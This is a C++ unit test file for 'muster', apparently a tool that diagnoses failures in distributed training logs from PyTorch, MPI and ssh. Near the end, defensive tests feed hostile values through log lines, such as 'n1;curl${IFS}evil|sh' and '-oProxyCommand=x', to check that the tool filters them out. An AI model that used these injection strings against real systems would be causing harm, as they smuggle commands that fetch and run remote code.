#include "explain/explanation.hpp"

#include <gtest/gtest.h>

#include "explain/scanned.hpp"
#include "explain/text.hpp"

namespace muster::explain {
namespace {

std::string traceback(const std::string& label, const std::string& end,
                      const std::string& file = "train.py") {
  return label + "Traceback (most recent call last):\n" + label + "  File \"" + file +
         "\", line 57, in load_shard\n" + label + "    raise it\n" + label +
         "  File \"/venv/lib/python3.11/site-packages/torch/x.py\", line 9, in f\n" + label +
         "    deep()\n" + label + end + "\n";
}

TEST(Explanation, OfAnExceptionNamesTheUsersOwnCode) {
  const Explanation found = explained(traceback("[n2:3] ", "ValueError: no shard 19"));
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.confidence, Confidence::kHigh);
  const Cause& cause = found.causes.front();
  EXPECT_EQ(cause.failure, nullptr);
  EXPECT_EQ(cause.ranks, std::vector<int>{3});
  EXPECT_EQ(cause.hosts, std::vector<std::string>{"n2"});
  EXPECT_EQ(full_text(found, 80),
            "ValueError: no shard 19\n"
            "  where      rank 3 on n2\n"
            "  your code  train.py:57, in load_shard\n"
            "  seen in    log:6: ValueError: no shard 19\n"
            "\n"
            "Confidence: high; the log shows no other known cause.\n");
}

TEST(Explanation, OfTheSameExceptionOnManyRanksIsOne) {
  std::string log;
  for (int rank = 0; rank < 8; ++rank) {
    log += traceback("[n1:" + std::to_string(rank) + "] ",
                     rank == 3 ? "KeyError: 'lr'" : "RuntimeError: rank 7 said no");
  }
  const Explanation found = explained(log);
  ASSERT_EQ(found.causes.size(), 2u);
  EXPECT_EQ(found.causes[0].ranks, (std::vector<int>{0, 1, 2, 4, 5, 6, 7}));
  EXPECT_EQ(found.causes[1].ranks, std::vector<int>{3});
  EXPECT_EQ(found.confidence, Confidence::kMedium);
}

TEST(Explanation, OfSeveralExceptionsOfARankNamesTheLastOne) {
  const Explanation found =
      explained(traceback("[n2:3] ", "ModuleNotFoundError: No module named 'wandb'") +
                "[n2:3] goes on without wandb\n" +
                traceback("[n2:3] ", "ModuleNotFoundError: No module named 'mylib'"));
  ASSERT_EQ(found.causes.size(), 2u);
  EXPECT_EQ(found.causes[0].values.at("module"), "mylib");
  EXPECT_EQ(found.causes[1].values.at("module"), "wandb");
  EXPECT_EQ(found.confidence, Confidence::kHigh);
}

TEST(Explanation, OfAnExceptionThatIsRaisedAgainCountsItsLastTime) {
  const std::string missing = traceback("[n2:3] ", "FileNotFoundError: no shard 19");
  const Explanation found =
      explained(missing + traceback("[n2:3] ", "KeyError: 'lr'", "other.py") + missing);
  ASSERT_EQ(found.causes.size(), 2u);
  EXPECT_EQ(found.causes[0].text, "FileNotFoundError: no shard 19");
  EXPECT_EQ(found.confidence, Confidence::kHigh);
}

TEST(Explanation, OfExceptionsInSeveralFilesNamesTheOneOnStandardError) {
  const std::string fatal = traceback("[n2:3] ", "ValueError: no shard 19");
  const std::string handled = traceback("[n2:3] ", "KeyError: 'lr'", "other.py");
  const Explanation found = explain(scanned({{"err", fatal}, {"out", handled}}));
  ASSERT_EQ(found.causes.size(), 2u);
  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
  EXPECT_EQ(found.confidence, Confidence::kHigh);
  // The same exception is also printed on standard output, but there it is not the last one.
  EXPECT_EQ(explain(scanned({{"err", handled + fatal}, {"out", fatal + handled}})).causes[0].text,
            "ValueError: no shard 19");
  // For files with other names, it is unknown which lines came last.
  EXPECT_EQ(explain(scanned({{"a.log", fatal}, {"b.log", handled}})).confidence,
            Confidence::kMedium);
}

TEST(Explanation, OfAnExceptionInAnotherProcessNamesItBeforeTheOneThatFollows) {
  for (const std::string announced :
       {"Process SpawnProcess-1:", "Exception in thread Thread-1 (f):"}) {
    const Explanation found =
        explained("[n2:3] " + announced + "\n" + traceback("[n2:3] ", "ValueError: no shard 19") +
                  traceback("[n2:3] ", "RuntimeError: the loader is gone"));
    ASSERT_EQ(found.causes.size(), 2u);
    EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19") << announced;
  }
}

TEST(Explanation, OfAnExceptionThatPythonIgnoredIsDoubtful) {
  const std::string ignored = "Exception ignored in: <function f.__del__ at 0x7f>\n";
  const Explanation found = explained(ignored + traceback("", "AttributeError: no 'x'"));
  EXPECT_EQ(found.confidence, Confidence::kLow);
  EXPECT_EQ(explained(ignored + traceback("", "AttributeError: no 'x'") +
                      traceback("", "ValueError: no shard 19"))
                .causes[0]
                .text,
            "ValueError: no shard 19");
}

TEST(Explanation, OfATorchrunThatWaitedForAnotherAtItsEndIsNone) {
  const std::string time =
      "E1119 02:21:40.352000 113 torch/distributed/elastic/agent/server/api.py:1008] ";
  const Explanation found = explained(
      "[W1119 02:21:40.35 TCPStore.cpp:106] [c10d] recvValue failed on SocketImpl(fd=3, "
      "addr=[n2]:512, "
      "remote=[n1]:29500): Connection reset by peer\n"
      "Exception raised from recvBytes at Utils.hpp:787 (most recent call first):\n"
      "frame #0: c10::Error::Error(c10::SourceLocation, std::string) + 0x9d (0x7f2 in "
      "libc10.so)\n\n" +
      time + "Error waiting on exit barrier. Elapsed: 0.0299 seconds\n" + time +
      "Traceback (most recent call last):\n" + time +
      "  File \"/x/site-packages/api.py\", line 5, in f\n" + time +
      "torch.distributed.DistNetworkError: Failed to recv, got 0 bytes\n");
  EXPECT_TRUE(found.causes.empty() && found.consequences.empty() && found.oddities.empty())
      << full_text(found, 80);
}

TEST(Explanation, DoesNotTakeGeneratedCodeForTheUsers) {
  const Explanation found = explained(
      "Traceback (most recent call last):\n  File \"/home/dev/train.py\", line 9, in step\n"
      "    model(x)\n  File \"<eval_with_key>.5\", line 7, in forward\n"
      "  File \"/tmp/torchinductor_dev/ab/cab.py\", line 88, in call\n    f()\n"
      "RuntimeError: odd size\n");
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].exception->exception.frame.line, 9);
}

TEST(Explanation, OfAParagraphNamesItsFirstLine) {
  const Explanation found = explained(
      "ready\n--------------------------------------\n"
      "mpirun was unable to launch the specified application as it could not access\n"
      "or execute an executable:\n\nNode: n1\n");
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].place.line, 3u);
}

TEST(Explanation, OfARunThatMusterEndedIsNeverSure) {
  const std::string handled = traceback("[n2:3] ", "ModuleNotFoundError: No module named 'wandb'");
  EXPECT_EQ(explained(handled).confidence, Confidence::kHigh);
  EXPECT_EQ(explained(handled, {.ended_by_muster = true}).confidence, Confidence::kMedium);
}

TEST(Explanation, ShowsTabsAsBlanks) {
  EXPECT_EQ(explained(traceback("", "ValueError: a\tb")).causes[0].text, "ValueError: a b");
}

TEST(Explanation, OfInterleavedTracebacksKeepsRanksApart) {
  const Explanation found = explained(
      "[n1:0] Traceback (most recent call last):\n[n2:1] Traceback (most recent call last):\n"
      "[n1:0]   File \"a.py\", line 1, in f\n[n2:1]   File \"b.py\", line 2, in g\n"
      "[n2:1] TypeError: y\n[n1:0] ValueError: x\n");
  ASSERT_EQ(found.causes.size(), 2u);
  EXPECT_EQ(found.causes[0].exception->exception.frame.file, "b.py");
  EXPECT_EQ(found.causes[1].exception->exception.frame.file, "a.py");
}

TEST(Explanation, OfAChainNamesItsLastExceptionAndTheFirst) {
  const Explanation found =
      explained(traceback("", "KeyError: 'lr'") +
                "\nThe above exception was the direct cause of the following exception:\n\n" +
                traceback("", "RuntimeError: bad settings"));
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].text, "RuntimeError: bad settings");
  EXPECT_EQ(headline(*found.causes[0].exception->exception.first), "KeyError: 'lr'");
}

TEST(Explanation, OfAConsequenceInAChainNamesTheExceptionThatItHides) {
  const Explanation found = explained(
      traceback("", "ValueError: no shard 19") +
      "\nDuring handling of the above exception, another exception occurred:\n\n" +
      traceback("",
                "RuntimeError: [/pytorch/third_party/gloo/gloo/transport/tcp/pair.cc:547] "
                "Connection closed by peer [198.18.1.2]:33218"));
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
  EXPECT_EQ(found.consequences.size(), 1u);
}

// A progress bar redraws its line many times, and the traceback begins on that same line.
TEST(Explanation, FindsATracebackBehindAProgressBar) {
  std::string bar;
  for (int i = 0; i < 2000; ++i) bar += "\r 50%|#####     | " + std::to_string(i) + "/4000 [00:12]";
  const std::string rest =
      "[n1:3]   File \"train.py\", line 57, in load_shard\n[n1:3] ValueError: no shard 19\n";
  const Explanation found =
      explained("[n1:3] " + bar + "Traceback (most recent call last):\n" + rest);
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
  EXPECT_EQ(found.causes[0].ranks, std::vector<int>{3});
  EXPECT_EQ(found.causes[0].exception->exception.frame.line, 57);
}

TEST(Explanation, OfATracebackBehindATimeOnEachLine) {
  const Explanation found = explained(
      "2026-11-18 10:00:00,123 ERROR Traceback (most recent call last):\n"
      "2026-11-18 10:00:00,124 ERROR   File \"train.py\", line 57, in load_shard\n"
      "2026-11-18 10:00:00,125 ERROR ValueError: no shard 19\n");
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
}

TEST(Explanation, OfATracebackThatWasCutOffTakesNoOtherLineForItsEnd) {
  const std::string cut =
      "Traceback (most recent call last):\n  File \"train.py\", line 57, in load_shard\n";
  for (const char* const after : {"epoch: 5\n", "INFO: x\n", "done\n", "WARNING: slow\n"}) {
    EXPECT_TRUE(explained(cut + after).causes.empty()) << after;
  }
  Scan scan(whole_matcher());
  scan.begin("err");
  scan.take(cut);
  scan.begin("out");
  scan.take("Finished: all\n");
  EXPECT_TRUE(explain(scan.finish()).causes.empty());
}

TEST(Explanation, OfALaunchersOwnTracebackIsAConsequence) {
  const Explanation found = explained(
      traceback("", "ValueError: no shard 19") +
      "Traceback (most recent call last):\n"
      "  File \"/opt/conda/bin/accelerate\", line 8, in <module>\n    sys.exit(main())\n"
      "  File \"/opt/conda/lib/python3.11/site-packages/accelerate/x.py\", line 9, in main\n"
      "subprocess.CalledProcessError: Command '['python', 'train.py']' returned non-zero exit "
      "status 1.\n");
  ASSERT_FALSE(found.causes.empty());
  EXPECT_EQ(found.causes.front().text, "ValueError: no shard 19");
  EXPECT_EQ(found.confidence, Confidence::kHigh);
}

TEST(Explanation, OfNoiseBeforeTheJobIsNotSure) {
  const std::string noise = "bash: line 1: conda: command not found\n";
  EXPECT_EQ(explained(noise).confidence, Confidence::kHigh);
  EXPECT_EQ(explained(noise + "the frobnicator failed\n").confidence, Confidence::kMedium);
  const Explanation found = explained(noise + traceback("", "ValueError: x"));
  EXPECT_EQ(found.causes.front().text, "ValueError: x");
}

TEST(Explanation, PutsTheCauseBeforeWhatFollowedFromIt) {
  const std::string closed =
      "RuntimeError: [../third_party/gloo/gloo/transport/tcp/pair.cc:534] Connection closed by "
      "peer [198.18.1.2]:33218";
  const Explanation found = explained(traceback("[n1:0] ", closed) + traceback("[n1:1] ", closed) +
                                      traceback("[n2:2] ", "ValueError: no shard 19"));
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].text, "ValueError: no shard 19");
  ASSERT_EQ(found.consequences.size(), 1u);
  EXPECT_EQ(found.consequences[0].failure->id, "gloo-peer-closed");
  EXPECT_EQ(found.consequences[0].ranks, (std::vector<int>{0, 1}));
  EXPECT_EQ(found.confidence, Confidence::kHigh);
}

TEST(Explanation, PrefersTheRankThatFailedFirst) {
  const std::string log =
      traceback("[n1:0] ", "ValueError: a") + traceback("[n2:1] ", "TypeError: b", "other.py");
  EXPECT_EQ(explained(log).causes.front().text, "ValueError: a");
  const Explanation found = explained(log, {.first_failed_rank = 1});
  EXPECT_EQ(found.causes.front().text, "TypeError: b");
  EXPECT_EQ(found.confidence, Confidence::kHigh);
}

TEST(Explanation, OfAnEnginesWrappedHelpReadsItsParagraph) {
  const Explanation found = explained(
      "--------------------------------------------------------------------------\n"
      "There are not enough slots available in the system to satisfy the 64\n"
      "slots that were requested by the application:\n"
      "\n"
      "  ./train\n"
      "--------------------------------------------------------------------------\n");
  ASSERT_FALSE(found.causes.empty());
  EXPECT_EQ(found.causes.front().failure->id, "not-enough-slots");
}

// If an engine's report has several lines, the first one names the failure, and later ones name the
// process and its host.
TEST(Explanation, TakesValuesFromTheWholeParagraph) {
  const std::string ruler(70, '=');
  const Evidence found = scanned(ruler +
                                 "\n=   BAD TERMINATION OF ONE OF YOUR APPLICATION PROCESSES\n"
                                 "=   PID 4711 RUNNING AT n2\n=   EXIT CODE: 3\n" +
                                 ruler + "\n");
  ASSERT_EQ(found.failures.size(), 1u);
  EXPECT_EQ(found.failures[0].failure->id, "hydra-bad-termination");
  EXPECT_EQ(found.failures[0].count, 2u);  // the count of lines
  EXPECT_EQ(found.failures[0].first[0].values.at("pid"), "4711");
  EXPECT_EQ(found.failures[0].first[0].values.at("host"), "n2");
}

TEST(Explanation, TakesValuesFromALaterLineOfTheSameFailure) {
  const Explanation found = explained(
      "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
      "Host key for n2 has changed and you have requested strict checking.\n");
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].values.at("host"), "n2");
  EXPECT_EQ(found.causes[0].place.line, 1u);
}

TEST(Explanation, TakesValuesFromWhicheverPatternOfALineTellsThem) {
  const Explanation found = explained(
      "Received disconnect from 198.18.1.2 port 22:2: Too many authentication failures\n");
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].values.at("host"), "198.18.1.2");
}

TEST(Explanation, OfAnExceptionThatSaysThatRanksDidNotMeetKeepsTheReasonFirst) {
  const Explanation found = explained(
      "[W1119 socket.cpp:764] [c10d] The IPv6 network addresses of (n9, 29500) cannot be retrieved "
      "(gai error: -2 - Name or service not known).\n"
      "Traceback (most recent call last):\n"
      "  File \"/job/train.py\", line 2, in <module>\n"
      "    dist.init_process_group(\"gloo\")\n"
      "torch.distributed.DistNetworkError: The client socket has timed out after 20000ms while "
      "trying to connect to (n9, 29500).\n");
  ASSERT_EQ(found.causes.size(), 2u);
  EXPECT_EQ(found.causes[0].failure->id, "peer-hostname-unresolvable");
}

TEST(Explanation, OfAnExceptionInADataLoadersWorkerNamesTheOriginal) {
  const Explanation found = explained(
      "Traceback (most recent call last):\n"
      "  File \"/job/train.py\", line 12, in <module>\n"
      "    for batch in loader:\n"
      "KeyError: Caught KeyError in DataLoader worker process 0.\n"
      "Original Traceback (most recent call last):\n"
      "  File \"/job/data.py\", line 4, in __getitem__\n"
      "    return self.items[index]\n"
      "KeyError: 7\n");
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].exception->exception.frame.file, "/job/data.py");
  EXPECT_EQ(found.consequences.size(), 1u);
  EXPECT_EQ(found.confidence, Confidence::kHigh);
}

TEST(Explanation, OfAHelpThatIsKnownShowsNoUnusualLine) {
  const std::string help =
      "--------------------------------------------------------------------------\n"
      "A daemon failed to report back after being spawned. This could\n"
      "be due to several factors, including inability to find the\n"
      "daemon executable, or the executable was unable to find its\n"
      "required supporting libraries.\n"
      "\n"
      "This failed to be an internal error that should be reported.\n"
      "--------------------------------------------------------------------------\n";
  EXPECT_TRUE(explained(help).oddities.empty());
  EXPECT_EQ(explained(help + "the model failed to load\n").oddities.size(), 1u);
  EXPECT_EQ(explained("------------\nthe model failed to load\n------------\n").oddities.size(),
            1u);
}

TEST(Explanation, OfAnExceptionWhoseMessageBeginsOnTheNextLineKnowsTheMessage) {
  const std::string frame =
      "Traceback (most recent call last):\n  File \"train.py\", line 3, in f\n";
  const Explanation found = explained(
      frame +
      "RuntimeError: \n        An attempt has been made to start a new process before the\n"
      "        current process has finished its bootstrapping phase.\n");
  ASSERT_EQ(found.causes.size(), 1u);
  ASSERT_NE(found.causes[0].failure, nullptr);
  EXPECT_EQ(found.causes[0].failure->id, "missing-main-guard");
  EXPECT_EQ(found.causes[0].exception->exception.message,
            "An attempt has been made to start a new process before the");
  EXPECT_EQ(explained(frame + "AssertionError\n    indented\n").causes[0].text, "AssertionError");
  EXPECT_EQ(explained(frame + "RuntimeError: \nnot indented\n").causes[0].text, "RuntimeError");
}

TEST(Explanation, OfUnknownTextShowsTheUnusualLinesAndClaimsNothing) {
  std::string log;
  for (int i = 0; i < 500; ++i) log += "step " + std::to_string(i) + " error rate 0.1\n";
  log += "the frobnicator failed to engage\n";
  const Explanation found = explained(log);
  EXPECT_TRUE(found.causes.empty());
  EXPECT_EQ(found.confidence, Confidence::kNone);
  ASSERT_EQ(found.oddities.size(), 2u);
  EXPECT_EQ(found.oddities[1].text, "the frobnicator failed to engage");
  EXPECT_EQ(full_text(found, 80).find("muster does not know the cause"), 0u);
}

TEST(Explanation, OfAHealthyLogHasNothing) {
  const Explanation found = explained("[n1:0] epoch 1 loss 0.3\n[n1:0] done\n");
  EXPECT_EQ(full_text(found, 80), "Nothing in 2 lines shows a failure that muster knows.\n");
}

TEST(Scan, SurvivesGarbageAndLinesWithoutAnEnd) {
  std::string garbage;
  for (int i = 0; i < 200'000; ++i) garbage += static_cast<char>((i * 7919) >> 3);
  Scan scan(whole_matcher());
  scan.begin("log");
  for (std::size_t at = 0; at < garbage.size(); at += 1000) scan.take(garbage.substr(at, 1000));
  for (int i = 0; i < 200; ++i) scan.take(std::string(100'000, 'x'));
  scan.take("\n" + traceback("", "ValueError: x"));
  const Explanation found = explain(scan.finish());
  ASSERT_FALSE(found.causes.empty());
  EXPECT_EQ(found.causes.front().text, "ValueError: x");
}

TEST(Scan, OfAPartThatIsLeftOutNumbersNoLineBehindIt) {
  Scan scan(whole_matcher());
  scan.begin("log");
  scan.take("Traceback (most recent call last):\n  File \"a.py\", line 1, in f\n");
  scan.skip();
  scan.take("the end of a line\nValueError: of another traceback\n" +
            traceback("", "ValueError: x"));
  const Explanation found = explain(scan.finish());
  ASSERT_EQ(found.causes.size(), 1u);
  EXPECT_EQ(found.causes[0].text, "ValueError: x");
  EXPECT_EQ(found.causes[0].place.line, 0u);
  EXPECT_NE(full_text(found, 80).find("  seen in    log: ValueError: x\n"), std::string::npos);
}

TEST(Filled, ShowsWhatHasNoValueInCapitals) {
  EXPECT_EQ(filled("ask {user} about {path} {{}}", {{"user", "a b"}}), "ask a b about PATH {}");
}

TEST(Explanation, LetsNoHostileValueIntoAStep) {
  const auto step_values = [](const std::string& host, const RunKnowledge& run = {}) {
    const Explanation found =
        explained("ssh: connect to host " + host + " port 22: Connection refused\n", run);
    return found.causes.empty() ? std::map<std::string, std::string>{}
                                : found.causes.front().step_values;
  };
  EXPECT_EQ(step_values("n1").at("host"), "n1");
  EXPECT_FALSE(step_values("n1;curl${IFS}evil|sh").contains("host"));
  EXPECT_FALSE(step_values("-oProxyCommand=x").contains("host"));
  EXPECT_EQ(step_values("n1", {.hosts = {"n1", "n2"}}).at("host"), "n1");
  EXPECT_FALSE(step_values("evil.example.org", {.hosts = {"n1", "n2"}}).contains("host"));
}

// A hostile log can have very many labels, each with an unfinished chain of exceptions.
TEST(Scan, OfManyOriginsNeedsLittleMemory) {
  Scan scan(whole_matcher());
  scan.begin("log");
  constexpr int kOrigins = 30'000;
  for (int i = 0; i < kOrigins; ++i) {
    const std::string label = "[host" + std::to_string(i) + ":1] ";
    scan.take(label + "Traceback (most recent call last):\n" + label + "  File \"a.py\", line 1\n" +
              label + "ValueError: " + std::to_string(i) + "\n" + label +
              "During handling of the above exception, another exception occurred:\n");
  }
  scan.take(traceback("", "TypeError: the last one"));
  const Evidence found = scan.finish();
  EXPECT_LE(found.exceptions.size(), 512u);
  EXPECT_EQ(found.exceptions.back().exception.message, "the last one");
}

// Tests the whole path from a hostile log to the output.
TEST(Filled, ShowsNoCommandOfALog) {
  const std::string shown = full_text(
      explained("mpirun noticed that process rank 1 with PID 5 on node n1;curl${IFS}evil|sh exited "
                "on signal 9 (Killed).\n"),
      80);
  const std::size_t steps = shown.find("to prove");
  ASSERT_NE(steps, std::string::npos);
  EXPECT_EQ(shown.substr(steps, shown.find("Confidence") - steps).find("curl"), std::string::npos)
      << shown;
}

}  // namespace
}  // namespace muster::explain
